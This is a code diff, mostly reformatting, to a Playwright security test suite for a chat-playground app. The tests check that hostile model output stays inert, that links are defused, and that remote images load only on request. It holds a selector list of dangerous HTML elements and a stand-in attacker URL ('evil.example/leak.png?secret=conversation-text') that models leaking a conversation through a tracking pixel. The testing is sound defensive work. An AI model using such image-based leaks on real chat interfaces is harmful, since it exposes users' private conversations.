@@ -69,18 +69,35 @@ async function expectInert(page: Page, w: Watch, scope: string): Promise<void> {
   expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
   expect(w.dialogs).toEqual([]);
   expect(w.external).toEqual([]);
-  const dangerous = await page.locator(scope).evaluateAll((roots) =>
-    roots.flatMap((root) => [...root.querySelectorAll('script, iframe, object, embed, form, meta, base, link, style, svg[onload], [onerror], [onload], [onclick], [style*="url("]')].map((e) => e.outerHTML.slice(0, 80))),
-  );
+  const dangerous = await page
+    .locator(scope)
+    .evaluateAll((roots) =>
+      roots.flatMap((root) =>
+        [
+          ...root.querySelectorAll(
+            'script, iframe, object, embed, form, meta, base, link, style, svg[onload], [onerror], [onload], [onclick], [style*="url("]',
+          ),
+        ].map((e) => e.outerHTML.slice(0, 80)),
+      ),
+    );
   expect(dangerous).toEqual([]);
-  const anchors = await page.locator(within(scope, 'a[href]')).evaluateAll((as) => as.map((a) => ({ href: a.getAttribute('href') ?? '', target: a.getAttribute('target'), rel: a.getAttribute('rel') ?? '', html: a.outerHTML.slice(0, 200) })));
+  const anchors = await page.locator(within(scope, 'a[href]')).evaluateAll((as) =>
+    as.map((a) => ({
+      href: a.getAttribute('href') ?? '',
+      target: a.getAttribute('target'),
+      rel: a.getAttribute('rel') ?? '',
+      html: a.outerHTML.slice(0, 200),
+    })),
+  );
   for (const a of anchors) {
     expect(a.href, a.html).toMatch(/^(https?:|mailto:|#)/);
     expect(a.target).toBe('_blank');
     expect(a.rel).toContain('noopener');
     expect(a.rel).toContain('noreferrer');
   }
-  const remoteImages = await page.locator(within(scope, 'img')).evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src') ?? '').filter((s) => !/^(data|blob):/.test(s)));
+  const remoteImages = await page
+    .locator(within(scope, 'img'))
+    .evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src') ?? '').filter((s) => !/^(data|blob):/.test(s)));
   expect(remoteImages).toEqual([]);
   expect(w.errors).toEqual([]);
 }
@@ -103,7 +120,15 @@ async function expectLinksDefused(page: Page, scope: string): Promise<void> {
 
 function chatFile(): string {
   const t = 1_700_000_000_000;
-  const msg = (id: string, parentId: string | null, role: string, text: string, i: number) => ({ id, parentId, role, content: [{ type: 'text', text }], status: 'done', createdAt: t + i, updatedAt: t + i });
+  const msg = (id: string, parentId: string | null, role: string, text: string, i: number) => ({
+    id,
+    parentId,
+    role,
+    content: [{ type: 'text', text }],
+    status: 'done',
+    createdAt: t + i,
+    updatedAt: t + i,
+  });
   return JSON.stringify({
     format: 'chat-playground',
     version: 2,
@@ -143,7 +168,13 @@ test('hostile content: model output and the user message', async ({ app, page, b
   await expectInert(page, w, CONVERSATION);
 
   // A remote image loads only when the person asks for it.
-  await page.route('https://evil.example/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64') }));
+  await page.route('https://evil.example/**', (route) =>
+    route.fulfill({
+      status: 200,
+      contentType: 'image/png',
+      body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64'),
+    }),
+  );
   await reply.getByRole('button', { name: /Load image “tracking pixel”/ }).click();
   await expect(reply.locator('img[alt="tracking pixel"]')).toBeVisible();
   await expect.poll(() => w.external).toEqual(['https://evil.example/leak.png?secret=conversation-text']);
@@ -217,4 +248,3 @@ test('the Content-Security-Policy forbids inline script, inline handlers and eva
   expect(result.handler).toBeUndefined();
   expect(result.violations.some((v) => v.startsWith('script-src'))).toBe(true);
 });
-
